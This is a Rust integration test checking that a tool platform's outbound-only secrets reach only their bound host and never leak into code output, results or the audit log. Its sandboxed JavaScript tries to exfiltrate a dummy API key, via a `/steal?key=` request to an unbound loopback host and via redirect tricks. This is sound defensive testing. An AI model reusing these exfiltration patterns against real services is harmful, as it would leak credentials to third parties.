//! Outbound-only secrets over real HTTP: set with the editor's form, filled in
//! by `$fetch` for their host only, and never seen by the tool's code, its
//! output or the audit log, however the code tries; on SQLite and PostgreSQL.

use std::sync::{Arc, Mutex};

use crate::common::TestServer;
use axum::extract::{Request, State};
use axum::http::header::LOCATION;
use axum::http::StatusCode;
use axum::response::{IntoResponse, Response};
use serde_json::{json, Value};

const VALUE: &str = "sk-live-4f9a1c7e2b";

/// Request lines and headers, as received.
type Seen = Arc<Mutex<Vec<String>>>;

/// A loopback HTTP server that records what it receives and echoes it back:
/// the request line and headers as the body, the Authorization header in
/// `x-echo`. `/hop/{port}` redirects to `127.0.0.1:{port}/landing` with its
/// own query, as an API that echoes its input into a redirect does.
pub(crate) struct Recorder {
    pub(crate) base: String,
    pub(crate) port: u16,
    seen: Seen,
}

impl Recorder {
    pub(crate) async fn start() -> Self {
        let seen = Seen::default();
        let app = axum::Router::new().fallback(record_and_echo).with_state(seen.clone());
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
        Self { base: format!("http://127.0.0.1:{port}"), port, seen }
    }

    pub(crate) fn received(&self) -> String {
        self.seen.lock().unwrap().join("\n")
    }
}

async fn record_and_echo(State(seen): State<Seen>, req: Request) -> Response {
    let mut head = format!("{} {}", req.method(), req.uri());
    for (name, value) in req.headers() {
        head.push_str(&format!("\n{name}: {}", value.to_str().unwrap_or_default()));
    }
    seen.lock().unwrap().push(head.clone());
    if let Some(port) = req.uri().path().strip_prefix("/hop/") {
        let query = req.uri().query().map(|q| format!("?{q}")).unwrap_or_default();
        return (StatusCode::FOUND, [(LOCATION, format!("http://127.0.0.1:{port}/landing{query}"))]).into_response();
    }
    let auth = req.headers().get("authorization").and_then(|v| v.to_str().ok()).unwrap_or_default().to_owned();
    ([("x-echo", auth)], head).into_response()
}

server_test!(an_outbound_only_secret_reaches_its_host_and_nothing_else, |srv: TestServer| async move {
    let (bound, other) = (Recorder::start().await, Recorder::start().await);
    let alice = srv.member("alice", "finance").await;
    let id = srv.create_tool(&alice, "weather", "department").await;
    let allow = format!("127.0.0.1:{}\n127.0.0.1:{}", bound.port, other.port);
    srv.set_settings(&alice, id, &[("title", "Weather"), ("visibility", "department"), ("fetch_allow", allow.as_str())]).await;
    let tool = id.to_string();
    let hosts = format!("127.0.0.1:{}", bound.port);
    let set = [("tool", tool.as_str()), ("name", "KEY"), ("value", VALUE), ("kind", "outbound"), ("hosts", hosts.as_str())];
    let (status, body) = srv.call(&alice, "tools/env/set", &set).await;
    assert_eq!(status, 200, "{body}");
    let (_, vars) = srv.call(&alice, "tools/env", &[("tool", tool.as_str())]).await;
    assert_eq!(vars, json!([{"name": "KEY", "value": null, "kind": "Outbound", "hosts": [hosts]}]));

    let code = format!(
        r#"const k = $env.KEY;
        console.log('key', k, k.split('').join(' '), JSON.stringify($env));
        const r = await $fetch(`{bound}/echo?key=${{k}}`, {{ headers: {{ authorization: `Bearer ${{k}}` }} }});
        const body = await r.text();
        console.log(body);
        const refused = await $fetch(`{other}/steal?key=${{k}}`).then(() => 'sent', e => e.message);
        const viaHeader = await $fetch(`{bound}/hop/{other_port}`, {{ headers: {{ 'x-key': k }} }}).then(r => r.text(), e => e.message);
        const viaQuery = await $fetch(`{bound}/hop/{other_port}?key=${{k}}`).then(r => r.text(), e => e.message);
        return {{ k, spread: [...k].join(' '), body, echo: r.headers['x-echo'], refused, viaHeader, viaQuery }};"#,
        bound = bound.base,
        other = other.base,
        other_port = other.port,
    );
    let run = json!({"tool": tool.parse::<i64>().unwrap(), "target": {"Draft": {"code": code, "args": []}}, "input": "{}"});
    let (status, view) = srv.server_fn(&alice, "tools/run", run).await;
    assert_eq!(status, 200, "{view}");

    // (1) The bound host got the value, in the header and in the query.
    let at_bound = bound.received();
    assert!(at_bound.contains(&format!("GET /echo?key={VALUE}")), "{at_bound}");
    assert!(at_bound.contains(&format!("authorization: Bearer {VALUE}")), "{at_bound}");
    assert!(at_bound.contains(&format!("GET /hop/{}?key={VALUE}", other.port)), "{at_bound}");
    // (2) The code's view, its console and its result never held it.
    let everything = view.to_string();
    assert!(!everything.contains(VALUE) && !everything.contains("4 f 9 a"), "{everything}");
    assert!(everything.contains("{{secret:KEY}}"), "{everything}");
    let result: Value = serde_json::from_str(view["result"].as_str().unwrap()).unwrap();
    assert_eq!(result["k"], "{{secret:KEY}}");
    // (3) What the bound host echoed comes back as the placeholder.
    assert_eq!(result["echo"], "Bearer {{secret:KEY}}");
    assert!(result["body"].as_str().unwrap().contains("GET /echo?key={{secret:KEY}}"), "{result}");
    // (4) The placeholder is not sent to a host the secret is not bound to.
    assert!(
        result["refused"].as_str().unwrap().starts_with(&format!("$fetch refused: secret KEY may be sent only to {hosts}")),
        "{result}"
    );
    // (5) A redirect off the bound host drops the header carrying the value,
    // and is refused when the location carries it.
    assert!(result["viaQuery"].as_str().unwrap().starts_with("$fetch refused: secret KEY may be sent only to"), "{result}");
    let at_other = other.received();
    assert!(at_other.contains("GET /landing") && !at_other.contains("steal"), "{at_other}");
    assert!(!at_other.contains(VALUE) && !at_other.contains("x-key"), "{at_other}");

    // The audit log says a variable changed, never its value.
    let (_, audit) = srv.page(&srv.admin().await, "/admin/audit").await;
    assert!(audit.contains("tool.env_set") && !audit.contains(VALUE), "{audit}");
});
